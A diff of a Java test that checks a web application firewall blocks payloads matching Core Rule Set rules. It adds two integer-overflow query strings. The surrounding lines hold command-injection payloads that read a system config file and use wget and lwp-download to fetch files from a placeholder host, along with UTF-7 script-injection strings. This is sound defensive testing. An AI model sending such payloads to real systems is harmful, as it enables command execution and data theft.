@@ -40,6 +40,8 @@ class AttacksCrsPartsTest {
             932110 => form   => var=" | type %SystemDrive%\\config.ini | "
             932100 => target => /?foo=http://x.example/upload.php;lwp-download%20http://x.example/a.jpg;wget%20http://x.example/a.jpg
             941350 => target => /xx?id=%25252bADw-script%25252bAD4-
+            942220 => target => /s?x=1;q=4294967296
+            942220 => target => /s?a=b&x=1;q=4294967296;y=2
             941350 => target => /xx?id=%2BADw-script%2BAD4-alert(1)
             """)
     void crsPayloadsAreDeniedWhereCrsSendsThem(String rule, String where, String payload) {
